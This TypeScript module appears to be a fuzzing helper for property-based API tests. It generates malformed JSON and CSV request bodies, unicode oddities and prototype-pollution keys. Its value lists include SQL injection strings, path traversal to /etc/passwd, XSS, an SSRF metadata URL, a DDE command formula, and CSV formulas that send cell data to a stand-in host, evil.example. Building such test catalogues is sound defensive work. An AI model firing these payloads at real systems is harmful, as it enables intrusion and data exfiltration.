import fc from 'fast-check';

/**
 * Hostile request bodies for property-based tests: values to put in one field of a valid body,
 * whole bodies, content types and CSV files. Every value is kept as the raw text (or bytes) sent
 * on the wire, so keys such as `__proto__` and numbers such as `1e999` survive (JSON.stringify
 * would drop or rewrite them), and each prints as a short label when fast-check reports a
 * counterexample (never a megabyte of `x`).
 */

/** A value for one JSON field: raw JSON text, or raw bytes sent inside a JSON string's quotes. */
export interface HostileValue {
  label: string;
  raw?: string;
  bytes?: Buffer;
}

/** A whole request: what is sent as the body, with which content type. */
export interface Payload {
  label: string;
  /** undefined: no body at all. */
  body?: string | Buffer;
  /** undefined: no content-type header. */
  contentType?: string;
  query?: Record<string, string>;
  /** Headers to set (a string) or leave out (undefined), over the route's own. */
  headers?: Record<string, string | undefined>;
}

const printable = <T extends object>(value: T, label: string): T =>
  Object.assign(value, { [fc.toStringMethod]: () => label });

const short = (text: string) => (text.length > 60 ? `${text.slice(0, 57)}...` : text);

export const value = (label: string, raw: string): HostileValue =>
  printable({ label, raw }, `${label}: ${short(raw)}`);
const str = (label: string, text: string): HostileValue => value(label, JSON.stringify(text));
const bytes = (label: string, data: number[] | Buffer): HostileValue =>
  printable(
    { label, bytes: Buffer.from(data) },
    `${label}: <${Buffer.from(data).toString('hex').slice(0, 40)}>`,
  );

export const payload = (p: Payload): Payload =>
  printable(
    p,
    `${p.label} [${p.contentType ?? 'no content-type'}] ${typeof p.body === 'string' ? short(p.body) : p.body ? `<${p.body.length} bytes>` : '<no body>'}`,
  );

export const ONE_MB = 1024 * 1024;
const MEGABYTE = 'x'.repeat(ONE_MB);
/** Just under the default BODY_LIMIT_BYTES with the rest of a body: reaches validation. */
const NEARLY_A_MEGABYTE = 'é'.repeat(450 * 1024);
export const DEPTH = 10_000;
export const DEEP_ARRAY = '['.repeat(DEPTH) + ']'.repeat(DEPTH);
export const DEEP_OBJECT = '{"a":'.repeat(DEPTH) + '1' + '}'.repeat(DEPTH);
const DEEP_MIXED = '[{"a":'.repeat(DEPTH / 2) + 'null' + '}]'.repeat(DEPTH / 2);
const POLLUTED_KEYS = '{"polluted":"yes","isAdmin":true,"role":"admin"}';
export const POLLUTION_MARKERS = ['polluted', 'isAdmin', 'role'];

export const SQL_INJECTIONS = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE cases; --",
  "'); DELETE FROM users; --",
  '1; SELECT pg_sleep(5) --',
  "' UNION SELECT password_hash FROM users --",
  '$$; DROP TABLE audit_entries; $$',
  "\\'; TRUNCATE organizations CASCADE; --",
  "%' AND 1=1 AND '%'='",
  "admin'--",
  '1) OR (1=1',
  "E'\\x00'",
  "'::jsonb",
  "COPY users TO '/tmp/x'",
];

export const JSON_INJECTIONS = [
  '","role":"admin","x":"',
  '"}]}',
  '{"$ne":null}',
  '{"__proto__":{"polluted":"yes"}}',
  '\\"',
  '\\u0000',
  ']}{"a":[',
  '{"a":1e999}',
];

const UNICODE_ODDITIES: [string, string][] = [
  ['right-to-left override', 'abc\u202Egnp.exe'],
  ['zero-width joiner and space', 'a\u200D\u200Bb\u2060'],
  ['combining marks', `e${'\u0301'.repeat(5000)}`],
  ['emoji and ZWJ sequence', '👩‍👩‍👧‍👦🏳️‍🌈'],
  ['byte order mark', '\uFEFFBO'],
  ['line and paragraph separators', 'a\u2028b\u2029c'],
  ['next line and NBSP', 'a\u0085b\u00A0c'],
  ['fullwidth letters', 'ＢＯ'],
  ['Cyrillic homoglyphs', 'fаcebook'],
  ['case-folding', 'İSTANBUL ß ﬃ'],
  ['ANSI escape', '\u001b[31mred\u001b[0m'],
  ['control characters', '\t\r\n\b\f\u0007\u007F'],
  ['non-characters', '\uFFFE\uFFFF'],
  ['astral plane', '\u{10FFFF}\u{1D11E}'],
];

const OTHER_STRINGS: [string, string][] = [
  ['empty string', ''],
  ['spaces', '   '],
  ['NUL in the middle', 'a\u0000b'],
  ['only NUL', '\u0000'],
  ['trailing NUL on a code', 'facebook\u0000'],
  ['trailing NUL on a country', 'BO\u0000'],
  ['NUL in a UUID', '00000000-0000-0000-0000-00000000000\u0000'],
  ['number as string', '42'],
  ['negative number as string', '-1'],
  ['float as string', '1.5'],
  ['exponent as string', '1e3'],
  ['hex as string', '0x1F'],
  ['NaN as string', 'NaN'],
  ['Infinity as string', 'Infinity'],
  ['boolean as string', 'true'],
  ['null as string', 'null'],
  ['undefined as string', 'undefined'],
  ['path traversal', '../../../../etc/passwd'],
  ['HTML', '<script>alert(1)</script>'],
  ['template', '${7*7}{{7*7}}#{7*7}'],
  ['javascript URL', 'javascript:alert(1)'],
  ['file URL', 'file:///etc/passwd'],
  ['metadata URL', 'http://169.254.169.254/latest/meta-data/'],
  ['URL with credentials', 'https://user:pass@example.org/'],
  ['impossible date', '2026-02-30'],
  ['zero date', '0000-00-00'],
  ['far future', '+275760-09-13T00:00:00.000Z'],
  ['negative year', '-000001-01-01T00:00:00Z'],
  ['bad offset', '2026-03-02T10:00:00+99:99'],
  ['date without zone', '2026-03-02T10:00:00'],
  ['nil UUID', '00000000-0000-0000-0000-000000000000'],
  ['max UUID', 'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF'],
  ['almost a UUID', '123e4567-e89b-12d3-a456-42661417400'],
  ['e-mail with quotes', '"a b"@example.org'],
  ['e-mail with IP', 'x@[127.0.0.1]'],
  ['upper-case enum', 'ADMIN'],
  ['enum with spaces', ' member '],
  ['LIKE wildcards', '%_%\\'],
  ['CSV formula', '=HYPERLINK("http://evil.example","x")'],
];

/** Values to put where a field's value goes (any field: scalars, arrays and objects alike). */
export const FIXED_VALUES: HostileValue[] = [
  str('1 MB string', MEGABYTE),
  str('nearly 1 MB string (under the body limit)', NEARLY_A_MEGABYTE),
  ...OTHER_STRINGS.map(([label, text]) => str(label, text)),
  ...UNICODE_ODDITIES.map(([label, text]) => str(label, text)),
  ...SQL_INJECTIONS.map((text) => str('SQL injection', text)),
  ...JSON_INJECTIONS.map((text) => str('JSON injection', text)),
  value('lone high surrogate', '"\\ud800"'),
  value('lone low surrogate', '"a\\udc00b"'),
  value('reversed surrogate pair', '"\\udc00\\ud800"'),
  value('escaped NUL', '"\\u0000"'),
  value('null', 'null'),
  value('true', 'true'),
  value('false', 'false'),
  value('zero', '0'),
  value('negative', '-1'),
  value('negative zero', '-0'),
  value('fraction', '1.5'),
  value('huge number', '1e308'),
  value('overflowing number (Infinity)', '1e999'),
  value('underflowing number', '1e-400'),
  value('beyond safe integer', '9007199254740993'),
  value('beyond int32', '2147483648'),
  value('beyond int64', '92233720368547758070'),
  value('empty array', '[]'),
  value('array of strings', '["a","b"]'),
  value('array with null', '[null]'),
  value('array of arrays', '[["BO"]]'),
  value(
    'array of 10,000 strings',
    `[${Array.from({ length: 10_000 }, (_, i) => `"x${i}"`).join(',')}]`,
  ),
  value('array of 200,000 numbers', `[${'1,'.repeat(200_000)}1]`),
  value('empty object', '{}'),
  value('query operator', '{"$gt":""}'),
  value('object with toString', '{"toString":"x","valueOf":1}'),
  value('array-like object', '{"length":1000000000,"0":"a"}'),
  value(
    'object with 10,000 keys',
    `{${Array.from({ length: 10_000 }, (_, i) => `"k${i}":${i}`).join(',')}}`,
  ),
  value('__proto__ key', `{"__proto__":${POLLUTED_KEYS}}`),
  value('constructor.prototype keys', `{"constructor":{"prototype":${POLLUTED_KEYS}}}`),
  value('prototype key', `{"prototype":${POLLUTED_KEYS}}`),
  value('__proto__ in an array', `[{"__proto__":${POLLUTED_KEYS}}]`),
  value('escaped __proto__ key', `{"\\u005f_proto__":${POLLUTED_KEYS}}`),
  value('10,000 nested arrays', DEEP_ARRAY),
  value('10,000 nested objects', DEEP_OBJECT),
  value('10,000 nested arrays of objects', DEEP_MIXED),
  value('100 nested arrays', '['.repeat(100) + '"x"' + ']'.repeat(100)),
  value('1,000 nested arrays', '['.repeat(1000) + ']'.repeat(1000)),
  value('500 nested objects', '{"a":'.repeat(500) + '1' + '}'.repeat(500)),
  bytes('invalid UTF-8 byte 0xff', [0x61, 0xff, 0x62]),
  bytes('invalid UTF-8 0xfe 0xff', [0xfe, 0xff]),
  bytes('overlong slash', [0xc0, 0xaf]),
  bytes('overlong NUL', [0xc0, 0x80]),
  bytes('UTF-8-encoded surrogate', [0xed, 0xa0, 0x80]),
  bytes('5-byte sequence', [0xf8, 0x88, 0x80, 0x80, 0x80]),
  bytes('truncated sequence', [0x61, 0xc3]),
  bytes('beyond U+10FFFF', [0xf4, 0x90, 0x80, 0x80]),
  bytes('Latin-1 text', Buffer.from('Niña Peña', 'latin1')),
  bytes('raw NUL byte', [0x61, 0x00, 0x62]),
  bytes('raw newline and tab', [0x61, 0x0a, 0x09, 0x62]),
];

const jsonText = (v: unknown) => JSON.stringify(v) ?? 'null';

/** A hostile value for one field: the fixed catalogue, then random JSON, strings and numbers. */
export const hostileValue = (): fc.Arbitrary<HostileValue> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...FIXED_VALUES) },
    {
      weight: 1,
      arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => value('random JSON', jsonText(v))),
    },
    {
      weight: 1,
      arbitrary: fc
        .string({ unit: 'binary', maxLength: 40 })
        .map((s) => value('random code points (lone surrogates too)', JSON.stringify(s))),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.string({ maxLength: 20 }), fc.string({ maxLength: 20 }))
        .map(([a, b]) => value('random string with NUL', JSON.stringify(`${a}\u0000${b}`))),
    },
    {
      weight: 1,
      arbitrary: fc
        .oneof(
          fc.double().map((n) => String(Number.isFinite(n) ? n : '1e999')),
          fc.bigInt().map(String),
          fc.integer().map((n) => JSON.stringify(String(n))),
        )
        .map((raw) => value('random number', raw)),
    },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ minLength: 1, maxLength: 24 })
        .map((b) => bytes('random bytes', Buffer.from(b))),
    },
  );

/** A path into a JSON value: property names and array indexes. */
export type FieldPath = (string | number)[];

/**
 * Every place in a valid body where a hostile value can go: each member (its whole value), and
 * recursively the members of nested objects and the first element of arrays; plus the schema's
 * top-level properties the body leaves out.
 */
export function fieldPaths(body: Record<string, unknown>, schemaProperties: string[]): FieldPath[] {
  const paths: FieldPath[] = [];
  const walk = (node: unknown, path: FieldPath) => {
    if (path.length > 0) paths.push(path);
    if (Array.isArray(node)) {
      if (node.length > 0) walk(node[0], [...path, 0]);
    } else if (node && typeof node === 'object') {
      for (const [key, child] of Object.entries(node)) walk(child, [...path, key]);
    }
  };
  walk(body, []);
  for (const name of schemaProperties) {
    if (!(name in body)) paths.push([name]);
  }
  return paths;
}

const PLACEHOLDER = 'HOSTILE-VALUE-PLACEHOLDER-7f3a9c';

function withPlaceholder(body: Record<string, unknown>, path: FieldPath): string {
  const copy = structuredClone(body) as Record<string | number, unknown>;
  let node: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  node[path[path.length - 1]] = PLACEHOLDER;
  return JSON.stringify(copy);
}

/** A valid body with the value at `path` replaced by a hostile one, as sent on the wire. */
export function bodyWith(
  body: Record<string, unknown>,
  path: FieldPath,
  hostile: HostileValue,
): string | Buffer {
  const [before, after] = withPlaceholder(body, path).split(JSON.stringify(PLACEHOLDER));
  if (hostile.bytes) {
    return Buffer.concat([Buffer.from(`${before}"`), hostile.bytes, Buffer.from(`"${after}`)]);
  }
  return `${before}${hostile.raw}${after}`;
}

/** A valid body with one more member, given as raw text (so `__proto__` stays a key). */
export function bodyPlus(body: Record<string, unknown>, member: string): string {
  const text = JSON.stringify(body);
  return text === '{}' ? `{${member}}` : `${text.slice(0, -1)},${member}}`;
}

const JSON_TYPE = 'application/json';

/** Members to add to a valid body: prototype pollution, unknown and duplicate keys. */
export const extraMember = (): fc.Arbitrary<{ label: string; member: string }> =>
  fc.oneof(
    fc.constantFrom(
      { label: '__proto__ member', member: `"__proto__":${POLLUTED_KEYS}` },
      {
        label: 'constructor.prototype member',
        member: `"constructor":{"prototype":${POLLUTED_KEYS}}`,
      },
      { label: 'prototype member', member: `"prototype":${POLLUTED_KEYS}` },
      { label: 'escaped __proto__ member', member: `"\\u005f_proto__":${POLLUTED_KEYS}` },
      { label: '__proto__ null', member: '"__proto__":null' },
      { label: 'hasOwnProperty member', member: '"hasOwnProperty":"x"' },
      { label: 'toString member', member: '"toString":{}' },
      { label: 'id member', member: '"id":"00000000-0000-0000-0000-000000000000"' },
      {
        label: 'organizationId member',
        member: '"organizationId":"00000000-0000-0000-0000-000000000000"',
      },
      { label: 'role member', member: '"role":"admin"' },
      { label: 'version member', member: '"version":999' },
      { label: 'createdAt member', member: '"createdAt":"2000-01-01T00:00:00Z"' },
    ),
    fc.tuple(fc.string({ maxLength: 12 }), fc.jsonValue({ maxDepth: 2 })).map(([key, v]) => ({
      label: 'random member',
      member: `${JSON.stringify(key)}:${jsonText(v)}`,
    })),
  );

/** Bodies that are wrong as a whole, whatever the route. */
export const wholeBody = (): fc.Arbitrary<Payload> =>
  fc.oneof(
    {
      weight: 4,
      arbitrary: fc.constantFrom(
        ...[
          payload({ label: 'no body, no content-type' }),
          payload({ label: 'empty JSON body', body: '', contentType: JSON_TYPE }),
          payload({ label: 'whitespace body', body: ' \n\t ', contentType: JSON_TYPE }),
          payload({ label: 'JSON null', body: 'null', contentType: JSON_TYPE }),
          payload({ label: 'JSON array', body: '[]', contentType: JSON_TYPE }),
          payload({ label: 'JSON string', body: '"text"', contentType: JSON_TYPE }),
          payload({ label: 'JSON number', body: '42', contentType: JSON_TYPE }),
          payload({ label: 'JSON true', body: 'true', contentType: JSON_TYPE }),
          payload({ label: 'unterminated', body: '{"a":', contentType: JSON_TYPE }),
          payload({ label: 'trailing garbage', body: '{}garbage', contentType: JSON_TYPE }),
          payload({ label: 'two objects', body: '{}{}', contentType: JSON_TYPE }),
          payload({ label: 'single quotes', body: "{'a':1}", contentType: JSON_TYPE }),
          payload({ label: 'trailing comma', body: '{"a":1,}', contentType: JSON_TYPE }),
          payload({ label: 'comment', body: '/* x */{}', contentType: JSON_TYPE }),
          payload({ label: 'NaN literal', body: '{"a":NaN}', contentType: JSON_TYPE }),
          payload({ label: 'raw NUL in JSON', body: '{"a":"\u0000"}', contentType: JSON_TYPE }),
          payload({ label: 'NUL byte outside strings', body: '{\u0000}', contentType: JSON_TYPE }),
          payload({ label: 'BOM then {}', body: '\uFEFF{}', contentType: JSON_TYPE }),
          payload({ label: '10,000 nested arrays', body: DEEP_ARRAY, contentType: JSON_TYPE }),
          payload({ label: '10,000 nested objects', body: DEEP_OBJECT, contentType: JSON_TYPE }),
          payload({
            label: '__proto__ body',
            body: `{"__proto__":${POLLUTED_KEYS}}`,
            contentType: JSON_TYPE,
          }),
          payload({
            label: 'constructor.prototype body',
            body: `{"constructor":{"prototype":${POLLUTED_KEYS}}}`,
            contentType: JSON_TYPE,
          }),
          payload({
            label: 'over 1 MB of whitespace',
            body: `{${' '.repeat(ONE_MB + 10)}}`,
            contentType: JSON_TYPE,
          }),
          payload({
            label: 'random bytes as JSON',
            body: Buffer.from([0xff, 0xfe, 0x00, 0x7b]),
            contentType: JSON_TYPE,
          }),
          payload({
            label: 'UTF-16 JSON',
            body: Buffer.from('\uFEFF{"a":"b"}', 'utf16le'),
            contentType: JSON_TYPE,
          }),
        ],
      ),
    },
    {
      weight: 2,
      arbitrary: fc
        .object({ maxDepth: 3 })
        .map((o) =>
          payload({ label: 'random object', body: JSON.stringify(o), contentType: JSON_TYPE }),
        ),
    },
    {
      weight: 1,
      arbitrary: fc
        .jsonValue({ maxDepth: 3 })
        .map((v) => payload({ label: 'random JSON', body: jsonText(v), contentType: JSON_TYPE })),
    },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ maxLength: 64 })
        .map((b) =>
          payload({ label: 'random bytes', body: Buffer.from(b), contentType: JSON_TYPE }),
        ),
    },
  );

/** Content types a JSON route should refuse (415) or read as JSON. */
export const CONTENT_TYPES = [
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'text/csv',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/jsonp',
  'application/merge-patch+json',
  'APPLICATION/JSON',
  'application/json;;;',
  '*/*',
  'application/json, text/plain',
  '',
];

export const CSV_CELLS: HostileValue[] = [
  ...OTHER_STRINGS.map(([label, text]) => str(label, text)),
  ...UNICODE_ODDITIES.map(([label, text]) => str(label, text)),
  ...SQL_INJECTIONS.map((text) => str('SQL injection', text)),
  ...[
    '=1+1',
    '+1+1',
    '-2+3',
    '@SUM(A1:A2)',
    "=cmd|' /C calc'!A0",
    '\t=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
  ].map((text) => str('formula cell', text)),
  str('1 MB cell', MEGABYTE),
  str('unbalanced quote', '"abc'),
  str('quote inside', 'a"b'),
  str('quoted with doubled quotes', '"a""b"'),
  str('separator inside', 'a,b;c'),
  str('newline inside', 'a\nb'),
  str('carriage return inside', 'a\rb'),
  bytes('invalid UTF-8 byte', [0x61, 0xff, 0x62]),
  bytes('overlong sequence', [0xc0, 0xaf]),
  bytes('UTF-8-encoded surrogate', [0xed, 0xa0, 0x80]),
  bytes('Latin-1 text', Buffer.from('Niña Peña', 'latin1')),
  bytes('NUL byte', [0x61, 0x00, 0x62]),
];

/** A CSV cell: the text goes in as is (unquoted), so quotes and separators break the row. */
export const hostileCell = (): fc.Arbitrary<HostileValue> =>
  fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...CSV_CELLS) },
    {
      weight: 1,
      arbitrary: fc
        .string({ unit: 'binary', maxLength: 30 })
        .map((s) => str('random code points', s)),
    },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ minLength: 1, maxLength: 24 })
        .map((b) => bytes('random bytes', Buffer.from(b))),
    },
  );

/** The bytes of a hostile cell: the text itself (not its JSON form), or the raw bytes. */
export function cellBytes(cell: HostileValue): Buffer {
  return cell.bytes ?? Buffer.from(JSON.parse(cell.raw as string) as string, 'utf8');
}

/** Whole CSV files (and content types) an import should refuse. */
export const wholeCsv = (header: string, row: () => string): fc.Arbitrary<Payload> =>
  fc.oneof(
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        ...[
          ['no body', undefined, 'text/csv'],
          ['empty file', '', 'text/csv'],
          ['header only', `${header}\r\n`, 'text/csv'],
          ['blank lines', '\r\n\r\n\n', 'text/csv'],
          ['no header', `${row()}\r\n`, 'text/csv'],
          ['duplicate column', `${header},title\r\n${row()},again\r\n`, 'text/csv'],
          ['unknown column', `${header},__proto__\r\n${row()},x\r\n`, 'text/csv'],
          ['constructor column', `constructor,prototype,${header}\r\nx,y,${row()}\r\n`, 'text/csv'],
          ['too few cells', `${header}\r\nfacebook\r\n`, 'text/csv'],
          ['too many cells', `${header}\r\n${row()},extra,cells\r\n`, 'text/csv'],
          ['CR line endings', `${header}\r${row()}\r`, 'text/csv'],
          ['unterminated quote', `${header}\r\n"${row()}\r\n`, 'text/csv'],
          ['1 MB line without a newline', `${header}\r\n${MEGABYTE}`, 'text/csv'],
          ['10,000 nested JSON as CSV', DEEP_ARRAY, 'text/csv'],
          ['JSON sent as CSV', '{"platform":"facebook"}', 'text/csv'],
          ['CSV sent as JSON', `${header}\r\n${row()}\r\n`, 'application/json'],
          ['CSV sent as text/plain', `${header}\r\n${row()}\r\n`, 'text/plain'],
          ['CSV in Latin-1 declared', `${header}\r\n${row()}\r\n`, 'text/csv; charset=latin1'],
          ['CSV in UTF-16 declared', `${header}\r\n${row()}\r\n`, 'text/csv; charset=utf-16'],
          ['CSV with no content type', `${header}\r\n${row()}\r\n`, undefined],
          [
            'too many rows',
            `${header}\r\n${Array.from({ length: 10_001 }, row).join('\r\n')}\r\n`,
            'text/csv',
          ],
        ].map(([label, body, contentType]) =>
          payload({ label: label as string, body, contentType }),
        ),
        payload({
          label: 'UTF-16LE with BOM',
          body: Buffer.from(`\uFEFF${header}\r\n${row()}\r\n`, 'utf16le'),
          contentType: 'text/csv',
        }),
        payload({
          label: 'UTF-8 BOM then NUL bytes',
          body: Buffer.concat([
            Buffer.from([0xef, 0xbb, 0xbf, 0, 0, 0]),
            Buffer.from(`${header}\r\n`),
          ]),
          contentType: 'text/csv',
        }),
      ),
    },
    {
      weight: 1,
      arbitrary: fc
        .array(fc.array(fc.string({ unit: 'binary', maxLength: 12 }), { maxLength: 25 }), {
          maxLength: 6,
        })
        .map((rows) =>
          payload({
            label: 'random CSV',
            body: [header, ...rows.map((r) => r.join(','))].join('\r\n'),
            contentType: 'text/csv',
          }),
        ),
    },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ maxLength: 200 })
        .map((b) =>
          payload({ label: 'random bytes', body: Buffer.from(b), contentType: 'text/csv' }),
        ),
    },
  );
